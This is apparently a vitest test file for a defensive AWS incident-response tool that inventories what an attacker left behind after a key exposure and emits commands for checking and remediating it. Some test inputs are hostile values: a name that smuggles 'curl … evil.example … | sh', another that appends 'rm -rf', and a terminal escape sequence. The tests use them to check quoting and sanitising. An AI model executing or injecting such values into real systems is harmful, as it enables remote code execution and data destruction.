import {
  GetRoleCommand,
  GetUserCommand,
  IAMClient,
  IAMServiceException,
  ListUserPoliciesCommand,
  NoSuchEntityException,
} from '@aws-sdk/client-iam';
import { mockClient } from 'aws-sdk-client-mock';
import { beforeEach, describe, expect, it } from 'vitest';
import type { ActivitySummary, RiskyEvent } from '../../../../src/activity/activity-summary.js';
import { RISKY_CALLS } from '../../../../src/activity/risky-events.js';
import { inventoryLines } from '../../../../src/message/leftovers.js';
import { inventoryIncomplete, UNNAMED } from '../../../../src/steps/inventory/inventory-types.js';
import { leftoversIn } from '../../../../src/steps/inventory/leftovers.js';
import { takeInventory } from '../../../../src/steps/inventory/take-inventory.js';
import { foreignPrincipals } from '../../../../src/steps/inventory/trust.js';
import { summarizeRecords } from '../../../support/summaries.js';

const iamMock = mockClient(IAMClient);
const iam = new IAMClient({ region: 'us-east-1' });

function risky(eventName: string, resources: RiskyEvent['resources'], errorCode: string | null = null): RiskyEvent {
  return {
    eventName,
    eventTime: '2026-11-27T03:00:00Z',
    awsRegion: 'us-east-1',
    eventId: eventName,
    category: 'persistence',
    errorCode,
    resources,
  };
}

function summary(riskyEvents: RiskyEvent[]): ActivitySummary {
  return {
    accessKeyId: 'AKIAIOSFODNN7EXAMPLE',
    userName: 'alice',
    regions: { searched: ['us-east-1'], failed: [] },
    truncated: false,
    riskyEvents,
  } as unknown as ActivitySummary;
}

beforeEach(() => {
  iamMock.reset();
});

describe('leftoversIn', () => {
  it('takes what succeeded, once, and gives a key made without a user name to the key’s own user', () => {
    const found = leftoversIn(
      [
        summary([
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'backdoor' }]),
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'backdoor' }]),
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'refused' }], 'AccessDenied'),
          risky('CreateAccessKey', [{ type: 'AWS::IAM::AccessKey', name: 'AKIAEXAMPLEEXAMPLE22' }]),
          risky('UpdateAssumeRolePolicy', [{ type: 'AWS::IAM::Role', name: 'arn:aws:iam::1:role/path/ops' }]),
        ]),
      ],
      null,
    );

    expect(found).toEqual([
      { kind: 'user', name: 'backdoor', owner: null, region: null },
      { kind: 'access-key', name: 'AKIAEXAMPLEEXAMPLE22', owner: 'alice', region: null },
      { kind: 'role-trust', name: 'ops', owner: null, region: null },
    ]);
  });
});

describe('leftoversIn: the persistence the summary reports', () => {
  const user = { type: 'AWS::IAM::User', name: 'alice' };
  const policy = { type: 'AWS::IAM::Policy', name: 'arn:aws:iam::123456789012:policy/ops' };

  it('lists what UploadSSHPublicKey left: the key, or every key of the user when the record names none', () => {
    const found = leftoversIn(
      [
        summary([
          risky('UploadSSHPublicKey', [user, { type: 'AWS::IAM::SSHPublicKey', name: 'APKAEXAMPLE' }]),
          risky('UploadSSHPublicKey', [{ type: 'AWS::IAM::User', name: 'bob' }]),
        ]),
      ],
      'alice',
    );

    expect(found).toEqual([
      { kind: 'ssh-public-key', name: 'APKAEXAMPLE', owner: 'alice', region: null },
      { kind: 'ssh-public-key', name: UNNAMED, owner: 'bob', region: null },
    ]);
  });

  it('lists what CreateServiceSpecificCredential left', () => {
    const found = leftoversIn([summary([risky('CreateServiceSpecificCredential', [user])])], 'alice');

    expect(found).toEqual([{ kind: 'service-credential', name: UNNAMED, owner: 'alice', region: null }]);
  });

  it('lists what AddUserToGroup left: the user in the group', () => {
    const found = leftoversIn(
      [summary([risky('AddUserToGroup', [user, { type: 'AWS::IAM::Group', name: 'Admins' }])])],
      'alice',
    );

    expect(found).toEqual([{ kind: 'group-membership', name: 'Admins', owner: 'alice', region: null }]);
  });

  it('lists what CreatePolicyVersion left, and what SetDefaultPolicyVersion chose', () => {
    const found = leftoversIn(
      [
        summary([
          risky('CreatePolicyVersion', [policy]),
          risky('CreatePolicyVersion', [policy, { type: 'AWS::IAM::PolicyVersion', name: 'v3' }]),
          risky('SetDefaultPolicyVersion', [policy, { type: 'AWS::IAM::PolicyVersion', name: 'v1' }]),
        ]),
      ],
      'alice',
    );

    expect(found).toEqual([
      { kind: 'policy-version', name: UNNAMED, owner: policy.name, region: null },
      { kind: 'policy-version', name: 'v3', owner: policy.name, region: null },
      { kind: 'default-policy-version', name: 'v1', owner: policy.name, region: null },
    ]);
  });

  it('lists policies, MFA devices, identity providers, spot requests, fleets and key pairs made', () => {
    const serial = { type: 'AWS::IAM::MFADevice', name: 'arn:aws:iam::123456789012:mfa/d' };
    const launched = (eventName: string, type: string, name: string) => ({
      ...risky(eventName, [{ type, name }]),
      category: 'resource-abuse' as const,
      awsRegion: 'eu-west-1',
    });
    const found = leftoversIn(
      [
        summary([
          risky('CreatePolicy', [policy]),
          risky('CreateVirtualMFADevice', [serial]),
          risky('EnableMFADevice', [user, serial]),
          risky('CreateSAMLProvider', [{ type: 'AWS::IAM::SAMLProvider', name: 'arn:aws:iam::1:saml-provider/s' }]),
          risky('CreateOpenIDConnectProvider', [
            { type: 'AWS::IAM::OIDCProvider', name: 'arn:aws:iam::1:oidc-provider/o' },
          ]),
          launched('RequestSpotInstances', 'AWS::EC2::SpotInstanceRequest', 'sir-1'),
          launched('RequestSpotFleet', 'AWS::EC2::SpotFleet', 'sfr-1'),
          launched('CreateFleet', 'AWS::EC2::EC2Fleet', 'fleet-1'),
          launched('ImportKeyPair', 'AWS::EC2::KeyPair', 'miner'),
        ]),
      ],
      'alice',
    );

    expect(found.map((candidate) => [candidate.kind, candidate.name, candidate.owner, candidate.region])).toEqual([
      ['managed-policy', policy.name, null, null],
      ['mfa-device', serial.name, null, null],
      ['mfa-device', serial.name, 'alice', null],
      ['identity-provider', 'arn:aws:iam::1:saml-provider/s', null, null],
      ['identity-provider', 'arn:aws:iam::1:oidc-provider/o', null, null],
      ['spot-request', 'sir-1', null, 'eu-west-1'],
      ['spot-fleet', 'sfr-1', null, 'eu-west-1'],
      ['fleet', 'fleet-1', null, 'eu-west-1'],
      ['key-pair', 'miner', null, 'eu-west-1'],
    ]);
  });

  it('lists a call that made what its record does not name as a call not checked, once per call and region', () => {
    const found = leftoversIn(
      [
        summary([
          risky('CreatePolicy', []),
          risky('CreatePolicy', []),
          risky('AddUserToGroup', [user]),
          { ...risky('RequestSpotFleet', []), category: 'resource-abuse' },
          // Not a thing made: the summary reports it, the inventory does not.
          { ...risky('StopLogging', []), category: 'defense-evasion' },
          risky('CreateVirtualMFADevice', [], 'AccessDenied'),
        ]),
      ],
      'alice',
    );

    expect(found).toEqual([
      { kind: 'unchecked-call', name: 'CreatePolicy', owner: null, region: 'us-east-1' },
      { kind: 'unchecked-call', name: 'AddUserToGroup', owner: null, region: 'us-east-1' },
      { kind: 'unchecked-call', name: 'RequestSpotFleet', owner: null, region: 'us-east-1' },
    ]);
  });

  it('lists as not checked, with the command that finds their records, calls that leave a way in the record does not name', async () => {
    const window = { start: new Date('2026-11-27T00:00:00Z'), end: new Date('2026-11-28T00:00:00Z') };
    const calls = [
      ['iam.amazonaws.com', 'UpdateAccessKey'],
      ['lambda.amazonaws.com', 'AddPermission20150331v2'],
      ['ec2.amazonaws.com', 'ModifySnapshotAttribute'],
      ['ecs.amazonaws.com', 'RunTask'],
      ['cloudformation.amazonaws.com', 'CreateStack'],
    ];
    const records = calls.map(([eventSource, eventName], index) => ({
      eventID: `e-${index}`,
      eventTime: '2026-11-27T03:00:00Z',
      eventSource,
      eventName,
      awsRegion: 'eu-west-1',
      userIdentity: { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', userName: 'alice' },
      requestParameters: {},
    }));
    const activity = summarizeRecords(records, 'AKIAIOSFODNN7EXAMPLE', window, {
      source: 'cloudtrail-logs',
      regionsSearched: ['eu-west-1'],
    });

    const found = leftoversIn([activity], 'alice');

    expect(found).toEqual(
      calls.map(([, eventName]) => ({ kind: 'unchecked-call', name: eventName, owner: null, region: 'eu-west-1' })),
    );
    const none = { send: async () => ({}) };
    const inventory = await takeInventory(
      { iam: none, ec2: () => none, lambda: () => none, accountId: '123456789012' } as never,
      [activity],
      'alice',
    );
    // LookupEvents finds a Lambda call by the name with its API version, as its records carry it.
    expect(inventory.items.find((item) => item.name.startsWith('AddPermission'))?.command).toBe(
      'aws cloudtrail lookup-events --region eu-west-1 --lookup-attributes AttributeKey=EventName,AttributeValue=AddPermission20150331v2',
    );
    expect(inventoryLines(inventory).join('\n')).toContain('5 not checked');
  });

  it('puts no region a record gave that is no region in the command that finds its records', async () => {
    const window = { start: new Date('2026-11-27T00:00:00Z'), end: new Date('2026-11-28T00:00:00Z') };
    const record = {
      eventID: 'e-1',
      eventTime: '2026-11-27T03:00:00Z',
      eventSource: 'ecs.amazonaws.com',
      eventName: 'RunTask',
      awsRegion: { crafted: true },
      userIdentity: { accessKeyId: 'AKIAIOSFODNN7EXAMPLE', userName: 'alice' },
      requestParameters: {},
    };
    const activity = summarizeRecords([record] as never, 'AKIAIOSFODNN7EXAMPLE', window, {
      source: 'cloudtrail-logs',
      regionsSearched: ['eu-west-1'],
    });
    const none = { send: async () => ({}) };

    const inventory = await takeInventory(
      { iam: none, ec2: () => none, lambda: () => none, accountId: '123456789012' } as never,
      [activity],
      'alice',
    );

    const item = inventory.items.find((found) => found.name === 'RunTask');
    expect(item?.command).toBe(
      'aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=RunTask',
    );
    expect(item?.note).toContain('nor a region');
  });

  it('leaves no persistence or resource-abuse call the summary flags without an item', () => {
    const calls = Object.entries(RISKY_CALLS).flatMap(([, byName]) =>
      Object.entries(byName).filter(([, category]) => category === 'persistence' || category === 'resource-abuse'),
    );
    for (const [eventName, category] of calls) {
      const found = leftoversIn([summary([{ ...risky(eventName, []), category }])], 'alice');
      expect(found.length, eventName).toBeGreaterThan(0);
    }
  });
});

describe('foreignPrincipals', () => {
  it('names the accounts outside the trusted ones, and anyone', () => {
    const policy = encodeURIComponent(
      JSON.stringify({
        Statement: [
          { Effect: 'Allow', Principal: { AWS: ['arn:aws:iam::111122223333:root', '123456789012'] } },
          { Effect: 'Allow', Principal: '*' },
          { Effect: 'Deny', Principal: { AWS: '444455556666' } },
        ],
      }),
    );

    expect(foreignPrincipals(policy, { accounts: new Set(['123456789012']), scope: 'this-account' })).toEqual([
      '*',
      '111122223333',
    ]);
  });

  it('names the identity providers a role trusts, which belong to no account', () => {
    const policy = encodeURIComponent(
      JSON.stringify({
        Statement: [
          {
            Effect: 'Allow',
            Principal: { Federated: 'arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com' },
            Action: 'sts:AssumeRoleWithWebIdentity',
          },
          { Effect: 'Allow', Principal: { Federated: ['accounts.google.com'], Service: 'ec2.amazonaws.com' } },
        ],
      }),
    );

    expect(foreignPrincipals(policy, { accounts: new Set(['123456789012']), scope: 'this-account' })).toEqual([
      'federated accounts.google.com',
      'federated token.actions.githubusercontent.com',
    ]);
  });
});

describe('foreignPrincipals of a trust policy it cannot read', () => {
  it('is null, never "none outside": absent, not URL-encoded JSON, or not an object', () => {
    const trusted = { accounts: new Set(['123456789012']), scope: 'this-account' as const };
    expect(foreignPrincipals(undefined, trusted)).toBeNull();
    expect(foreignPrincipals('%E0%A4%A', trusted)).toBeNull();
    expect(foreignPrincipals('{"Statement":', trusted)).toBeNull();
    expect(foreignPrincipals('null', trusted)).toBeNull();
    expect(foreignPrincipals(encodeURIComponent('{"Statement":[]}'), trusted)).toEqual([]);
  });
});

/** GetRole's answer for the role `ops`, with its trust policy as IAM gives it (URL-encoded). */
function roleOps(trustPolicy: string) {
  return {
    Role: {
      RoleName: 'ops',
      Arn: 'arn:aws:iam::123456789012:role/ops',
      Path: '/',
      RoleId: 'x',
      CreateDate: new Date(),
      AssumeRolePolicyDocument: trustPolicy,
    },
  };
}

describe('takeInventory', () => {
  const deps = {
    iam,
    ec2: () => ({ send: async () => ({}) }) as never,
    lambda: () => ({ send: async () => ({}) }) as never,
    accountId: '123456789012',
  };

  it('does not call a key removed whose id in the record is not one IAM gives, and reads nothing for it', async () => {
    const inventory = await takeInventory(
      deps,
      [summary([risky('CreateAccessKey', [{ type: 'AWS::IAM::AccessKey', name: 'not-a-key-id;rm -rf' }])])],
      'alice',
    );

    expect(inventory.items.map((item) => [item.state, item.command])).toEqual([
      ['unknown', 'aws iam list-access-keys --user-name alice'],
    ]);
    expect(iamMock.calls()).toEqual([]);
  });

  it('checks each thing now, says what is gone, and only reads', async () => {
    iamMock.on(GetUserCommand, { UserName: 'backdoor' }).resolves({});
    iamMock
      .on(GetUserCommand, { UserName: 'removed' })
      .rejects(new NoSuchEntityException({ message: 'gone', $metadata: {} }));
    iamMock
      .on(GetRoleCommand)
      .resolves(
        roleOps(
          encodeURIComponent(
            JSON.stringify({ Statement: [{ Effect: 'Allow', Principal: { AWS: 'arn:aws:iam::111122223333:root' } }] }),
          ),
        ),
      );

    const inventory = await takeInventory(
      deps,
      [
        summary([
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'backdoor' }]),
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'removed' }]),
          risky('CreateRole', [{ type: 'AWS::IAM::Role', name: 'ops' }]),
        ]),
      ],
      'alice',
    );

    // A way in (the role trusting outside) comes first; the rest in the order of the activity.
    expect(inventory.items.map((item) => [item.name, item.state, item.command])).toEqual([
      ['ops', 'exists', 'aws iam delete-role --role-name ops'],
      ['backdoor', 'exists', 'aws iam delete-user --user-name backdoor'],
      ['removed', 'gone', ''],
    ]);
    expect(inventory.items[0]).toMatchObject({ foreignTrust: true, note: 'trusts 111122223333, outside this account' });
    const sent = iamMock.calls().map((call) => call.args[0].constructor.name);
    expect(sent.every((name) => /^(Get|List)/.test(name))).toBe(true);
  });

  it('marks a check that failed, so that the inventory is not taken for complete, and a role whose trust it cannot read as one to look at', async () => {
    iamMock
      .on(GetUserCommand)
      .rejects(
        new IAMServiceException({ name: 'AccessDenied', $fault: 'client', message: 'not allowed', $metadata: {} }),
      );
    iamMock.on(GetRoleCommand).resolves(roleOps('%7B%22Statement'));

    const inventory = await takeInventory(
      deps,
      [
        summary([
          risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'backdoor' }]),
          risky('CreateRole', [{ type: 'AWS::IAM::Role', name: 'ops' }]),
        ]),
      ],
      'alice',
    );

    expect(inventory.items.map((item) => [item.name, item.state, item.checkFailed ?? false, item.note])).toEqual([
      ['backdoor', 'unknown', true, 'could not check: AccessDenied'],
      ['ops', 'exists', true, 'its trust policy could not be read: check whom it trusts'],
    ]);
    // Not said to trust outside (which the message would claim), nor to be safe.
    expect(inventory.items[1]?.foreignTrust).toBe(false);
    expect(inventoryLines(inventory).join('\n')).not.toContain('TRUST OUTSIDE');
    expect(inventoryIncomplete(inventory)).toBe(true);
    expect(inventoryIncomplete({ ...inventory, items: [] })).toBe(false);
  });

  it('keeps a failed check among what an inventory cut at its cap still holds', async () => {
    iamMock.on(GetUserCommand).resolves({});
    iamMock
      .on(GetUserCommand, { UserName: 'u-250' })
      .rejects(new IAMServiceException({ name: 'AccessDenied', $fault: 'client', message: 'no', $metadata: {} }));
    const users = Array.from({ length: 251 }, (_, n) =>
      risky('CreateUser', [{ type: 'AWS::IAM::User', name: `u-${n}` }]),
    );

    const inventory = await takeInventory(deps, [summary(users)], 'alice');

    expect(inventory.truncated).toBe(true);
    expect(inventory.items).toHaveLength(200);
    expect(inventory.items[0]).toMatchObject({ name: 'u-250', checkFailed: true });
    expect(inventoryIncomplete(inventory)).toBe(true);
  });

  it('leaves out the session-revoking policy only on the key’s own user: by that name elsewhere, it may be the attacker’s', async () => {
    iamMock.on(ListUserPoliciesCommand).resolves({ PolicyNames: ['exposed-keys-revoke-sessions', 'ops-extra'] });
    const putOn = (user: string) =>
      risky('PutUserPolicy', [
        { type: 'AWS::IAM::User', name: user },
        { type: 'AWS::IAM::Policy', name: 'exposed-keys-revoke-sessions' },
      ]);

    const inventory = await takeInventory(deps, [summary([putOn('alice'), putOn('backdoor')])], 'alice');

    expect(
      inventory.items.filter((item) => item.kind === 'inline-policy').map((item) => `${item.owner} ${item.name}`),
    ).toEqual(['user/alice ops-extra', 'user/backdoor exposed-keys-revoke-sessions', 'user/backdoor ops-extra']);
    // By exposed-keys' name, perhaps an earlier incident's revocation: to read, with no command that removes it.
    const named = inventory.items.find((item) => item.name === 'exposed-keys-revoke-sessions');
    expect(named?.command).toBe('');
    expect(named?.note).toMatch(/may revoke the sessions of an earlier incident's key/);
  });

  it('counts an inline policy put on a principal that has none now as already removed', async () => {
    iamMock.on(ListUserPoliciesCommand, { UserName: 'backdoor' }).resolves({ PolicyNames: [] });
    // On the key's own user, exposed-keys' own policy is not the attacker's: with it alone, none is left.
    iamMock
      .on(ListUserPoliciesCommand, { UserName: 'alice' })
      .resolves({ PolicyNames: ['exposed-keys-revoke-sessions'] });
    const putOn = (user: string) => risky('PutUserPolicy', [{ type: 'AWS::IAM::User', name: user }]);

    const inventory = await takeInventory(deps, [summary([putOn('backdoor'), putOn('alice')])], 'alice');

    expect(inventory.items.map((item) => [item.kind, item.owner, item.state])).toEqual([
      ['inline-policy', 'user/backdoor', 'gone'],
      ['inline-policy', 'user/alice', 'gone'],
    ]);
    expect(inventoryLines(inventory)[0]).toMatch(/^0 thing\(s\) the attacker made still exist, 2 already removed/);
  });

  it('quotes every name in a command to copy, so that a name an attacker wrote stays one argument', async () => {
    const name = '/x;curl -s https://evil.example/p|sh;#';
    const inventory = await takeInventory(
      deps,
      [
        summary([
          { ...risky('GetParameters', [{ type: 'AWS::SSM::Parameter', name }]), category: 'credential-access' },
        ]),
      ],
      'alice',
    );

    expect(inventory.items.map((item) => item.command)).toEqual([
      `aws ssm put-parameter --region us-east-1 --name '${name}' --overwrite --value <new value>`,
    ]);
  });

  it('lists secrets and parameters read in bulk, with the calls to look at, once per call and region', async () => {
    const bulk = (eventName: string, awsRegion: string) => ({
      ...risky(eventName, []),
      category: 'credential-access' as const,
      awsRegion,
    });
    const inventory = await takeInventory(
      deps,
      [
        summary([
          bulk('BatchGetSecretValue', 'us-east-1'),
          bulk('BatchGetSecretValue', 'us-east-1'),
          bulk('GetParametersByPath', 'eu-west-1'),
        ]),
      ],
      'alice',
    );

    expect(inventory.items.map((item) => [item.kind, item.name, item.region, item.state, item.command])).toEqual([
      [
        'bulk-read',
        'BatchGetSecretValue',
        'us-east-1',
        'to-rotate',
        'aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=EventName,AttributeValue=BatchGetSecretValue',
      ],
      [
        'bulk-read',
        'GetParametersByPath',
        'eu-west-1',
        'to-rotate',
        'aws cloudtrail lookup-events --region eu-west-1 --lookup-attributes AttributeKey=EventName,AttributeValue=GetParametersByPath',
      ],
    ]);
    expect(inventoryLines(inventory).join('\n')).toMatch(
      /2 secret\(s\) or parameter\(s\) read \(or calls reading them in bulk\), to rotate/,
    );
  });

  it('shows names from CloudTrail inert in the message', async () => {
    iamMock.on(GetUserCommand).resolves({});

    const inventory = await takeInventory(
      deps,
      [summary([risky('CreateUser', [{ type: 'AWS::IAM::User', name: 'evil\u001b[2J' }])])],
      null,
    );

    expect(inventoryLines(inventory).join('\n')).toContain('evil\\x1B[2J');
    expect(inventoryLines(inventory).join('\n')).not.toContain('\u001b');
  });
});
